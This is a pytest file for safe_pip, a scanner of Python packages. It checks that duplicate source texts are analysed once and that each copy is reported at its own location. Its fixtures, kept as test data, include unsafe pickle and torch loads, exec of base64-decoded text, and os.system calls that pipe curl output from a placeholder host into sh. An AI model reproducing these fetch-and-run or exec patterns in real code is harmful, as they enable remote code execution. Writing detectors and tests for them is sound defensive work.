"""One analysis per distinct Python text in a scan, its findings replayed at each copy.

``read_python`` keys each analysis by the text and everything else the findings depend on
(``setup.py`` or not, test module or not, the file name ``compile`` quotes, the target
interpreter); a later member with the same key gets the first one's findings with its own
location. The oracle is each member analysed alone, in a context of its own: a shared scan
must report exactly that, in the same order. The texts are what an attacker who read the
key would try: one payload planted as a plain module and as ``setup.py`` (every scope
runs), inside and outside a test folder (severity and wording differ), under two file
names (a ``SyntaxError`` quotes the name), and one whose own text spells a location.
"""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor

import pytest

from safe_pip.models import Severity
from safe_pip.scan.core.blob import Blob
from safe_pip.scan.core.context import Findings, ScanContext
from safe_pip.scan.dist import pysource

LOAD_IN_FUNCTION = b"import pickle\ndef go():\n    return pickle.load(open('m', 'rb'))\n"
LOAD_AT_IMPORT = b"import torch\nMODEL = torch.load('model.pt')\n"
EXEC_DECODED = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
UNREADABLE = b"import base64\nexec(base64.b64decode(X)\n"  # never closed: compile refuses it
# the location of another copy, spelled inside the text that findings quote
SPELLS_A_LOCATION = (
    b"import os\nos.system('curl http://x/a.whl!pkg/mod.py:2 | sh')\n"
    b"os.system('curl http://x/pkg/mod.py | sh')\n"
)

COPIES = [
    "outer.whl!pkg/mod.py",
    "outer.whl!embed/a-1.0.whl!pkg/mod.py",
    "outer.whl!embed/b-2.0.whl!pkg/mod.py",
    "outer.whl!pkg/setup.py",
    "outer.whl!setup.py",
    "outer.whl!pkg/tests/mod.py",
    "outer.whl!pkg/tests/test_mod.py",
    "outer.whl!embed/a-1.0.whl!pkg/tests/mod.py",
    "outer.whl!pkg/other.py",
    "outer.whl!pkg/mod.py:2",
]
TEXTS = [LOAD_IN_FUNCTION, LOAD_AT_IMPORT, EXEC_DECODED, UNREADABLE, SPELLS_A_LOCATION]

Key = tuple[str, str, str, Severity, str]


def _keys(ctx: ScanContext) -> list[Key]:
    return [
        (f.rule_id, f.location, f.message, f.severity, repr(sorted(f.detail.items())))
        for f in ctx.findings
    ]


def _alone(members: list[tuple[str, bytes]]) -> list[Key]:
    """Each member read in a context of its own: what a scan without sharing reports."""
    out: list[Key] = []
    for location, raw in members:
        ctx = ScanContext()
        pysource.read_python(ctx, Blob(raw), location, 0)
        out += _keys(ctx)
    return out


def _together(members: list[tuple[str, bytes]], pool: ThreadPoolExecutor | None) -> list[Key]:
    ctx = ScanContext()
    ctx.pool = pool
    for location, raw in members:
        pysource.read_python(ctx, Blob(raw), location, 0)
    ctx.drain()
    return _keys(ctx)


def _members() -> Iterator[list[tuple[str, bytes]]]:
    for text in TEXTS:
        yield [(loc, text) for loc in COPIES]
    # interleaved texts: the order of findings is the order of the members
    yield [
        (f"r{n}-{loc}", TEXTS[(i + n) % len(TEXTS)])
        for n in range(3)
        for i, loc in enumerate(COPIES)
    ]


@pytest.mark.parametrize("members", list(_members()))
@pytest.mark.parametrize("workers", [0, 2])
def test_copies_get_exactly_their_own_findings(
    members: list[tuple[str, bytes]], workers: int
) -> None:
    expected = _alone(members)
    assert expected, "the texts must give findings, or this test proves nothing"
    if workers:
        with ThreadPoolExecutor(workers) as pool:
            assert _together(members, pool) == expected
    else:
        assert _together(members, None) == expected


def test_each_copy_is_reported_where_it_is() -> None:
    found = _together([(loc, LOAD_IN_FUNCTION) for loc in COPIES], None)
    # only setup.py runs the function body's load at import (build) time
    assert sorted({loc.rsplit(":", 1)[0] for _, loc, *_ in found}) == [
        "outer.whl!pkg/setup.py",
        "outer.whl!setup.py",
    ]
    found = _together([(loc, LOAD_AT_IMPORT) for loc in COPIES], None)
    severities = {loc: sev for _, loc, _, sev, _ in found}
    assert severities["outer.whl!pkg/tests/mod.py:2"] == Severity.LOW
    assert severities["outer.whl!embed/a-1.0.whl!pkg/mod.py:2"] > Severity.LOW


def test_an_unreadable_copy_quotes_its_own_file_name() -> None:
    found = _together([("w.whl!a/mod.py", UNREADABLE), ("w.whl!a/other.py", UNREADABLE)], None)
    assert [(rule, loc) for rule, loc, *_ in found] == [
        ("PY-UNREADABLE-CODE", "w.whl!a/mod.py"),
        ("PY-UNREADABLE-CODE", "w.whl!a/other.py"),
    ]
    assert "mod.py" in found[0][2] and "other.py" in found[1][2]


def _counting() -> tuple[list[str], Callable[[pysource._Job], Findings]]:
    ran: list[str] = []
    real = pysource.analyze

    def analyze(job: pysource._Job) -> Findings:
        ran.append(job.location)
        return real(job)

    return ran, analyze


def test_one_text_is_analysed_once(monkeypatch: pytest.MonkeyPatch) -> None:
    ran, analyze = _counting()
    monkeypatch.setattr(pysource, "analyze", analyze)
    copies = ["w.whl!a-1.whl!p/mod.py", "w.whl!b-2.whl!p/mod.py", "w.whl!c-3.whl!p/mod.py"]
    found = _together([(loc, LOAD_AT_IMPORT) for loc in copies], None)
    assert ran == copies[:1]
    assert [loc for _, loc, *_ in found] == [f"{loc}:2" for loc in copies]


def test_a_copy_waits_for_the_first_analysis_still_running(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    release = threading.Event()
    ran, analyze = _counting()

    def slow(job: pysource._Job) -> Findings:
        release.wait(10)
        return analyze(job)

    monkeypatch.setattr(pysource, "analyze", slow)
    members = [
        ("w.whl!a-1.whl!p/mod.py", LOAD_AT_IMPORT),
        ("w.whl!p/x.py", EXEC_DECODED),
        ("w.whl!b-2.whl!p/mod.py", LOAD_AT_IMPORT),
    ]
    ctx = ScanContext()
    with ThreadPoolExecutor(2) as pool:
        ctx.pool = pool
        for location, raw in members:
            pysource.read_python(ctx, Blob(raw), location, 0)
        assert ran == []  # both analyses still running when the copy was read
        release.set()
        ctx.drain()
    assert sorted(ran) == ["w.whl!a-1.whl!p/mod.py", "w.whl!p/x.py"]
    assert _keys(ctx) == _alone(members)


def test_findings_elsewhere_are_analysed_again() -> None:
    """A finding not at the module or one of its lines cannot be moved: ``fn`` runs."""
    ran: list[str] = []

    def fn(job: str) -> Findings:
        ran.append(job)
        return [("SCAN-ERROR", "m", "somewhere/else", Severity.HIGH, {})]

    ctx = ScanContext()
    for job in ("a.py", "b.py"):
        ctx.offload(fn, job, job, key="k", reuse=lambda found, first: pysource._relocate(
            "b.py", found, first))  # fmt: skip
    assert ran == ["a.py", "b.py"]


@pytest.mark.parametrize(
    ("where", "moved"),
    [
        ("w!a.py", "w!b.py"),
        ("w!a.py:12", "w!b.py:12"),
        ("w!a.py:x", None),
        ("w!a.py:", None),
        ("w!a.pyc", None),
        ("w!a", None),
        ("", None),
    ],
)
def test_relocate_moves_only_the_module_and_its_lines(where: str, moved: str | None) -> None:
    found: Findings = [("PY-UNSAFE-LOAD", "m", where, None, {"call": "x"})]
    out = pysource._relocate("w!b.py", found, "w!a.py")
    assert (out if out is None else out[0][2]) == moved


def _failing(job: str) -> Findings:
    raise RuntimeError(f"worker died on {job}")


def test_a_failed_first_analysis_fails_each_copy_closed() -> None:
    ctx = ScanContext()
    with ThreadPoolExecutor(1) as pool:
        ctx.pool = pool
        for job in ("a.py", "b.py"):
            ctx.offload(_failing, job, job, key="k", reuse=lambda found, first: found)
        ctx.drain()
    assert [(f.rule_id, f.location) for f in ctx.findings] == [
        ("SCAN-ERROR", "a.py"),
        ("SCAN-ERROR", "b.py"),
    ]


def test_a_copy_read_while_the_pool_is_lent_runs_itself_unless_the_first_is_done() -> None:
    """``containers/split.py`` takes the pool away while it reads: a copy then reports at
    once, from the first analysis if that is done, else by running its own."""
    ran: list[str] = []

    def fn(job: str) -> Findings:
        ran.append(job)
        return [("SCAN-ERROR", "m", job, Severity.HIGH, {})]

    def move(found: Findings, first: str) -> Findings:
        return [(r, m, "moved", s, d) for r, m, _, s, d in found]

    ctx = ScanContext()
    pending: Future[Findings] = Future()
    failed: Future[Findings] = Future()
    failed.set_exception(RuntimeError("died"))
    ctx._shared["running"] = ("first.py", pending)
    ctx._shared["failed"] = ("first.py", failed)
    ctx.offload(fn, "a.py", "a.py", key="running", reuse=move)
    ctx.offload(fn, "b.py", "b.py", key="failed", reuse=move)
    pending.set_result(fn("first.py"))
    ctx.offload(fn, "c.py", "c.py", key="running", reuse=move)
    assert ran == ["a.py", "b.py", "first.py"]
    assert [f.location for f in ctx.findings] == ["a.py", "b.py", "moved"]


def test_a_forked_reader_forgets_the_parents_analyses() -> None:
    ctx = ScanContext()
    ctx.offload(lambda job: [], "a.py", "a.py", key="k", reuse=lambda found, first: found)
    assert ctx._shared
    ctx.discard_pending()
    assert not ctx._shared
